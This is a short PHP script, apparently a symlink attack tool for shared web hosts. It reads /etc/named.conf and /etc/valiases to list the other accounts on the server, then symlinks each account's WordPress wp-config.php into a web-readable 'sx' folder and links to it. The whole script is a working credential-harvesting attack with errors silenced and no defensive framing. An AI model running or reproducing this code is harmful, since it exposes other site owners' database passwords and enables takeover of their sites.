<?php
@mkdir('sx', 0755);
$lines = @file('/etc/named.conf');
foreach ((array)$lines as $l) {
    if (preg_match('/zone "(.*)"/', $l, $m)) {
        $owner = posix_getpwuid(@fileowner('/etc/valiases/' . $m[1]));
        @symlink('/home/' . $owner['name'] . '/public_html/wp-config.php', 'sx/' . $owner['name'] . '.txt');
    }
}
echo "<a href='sx/'>links</a>";
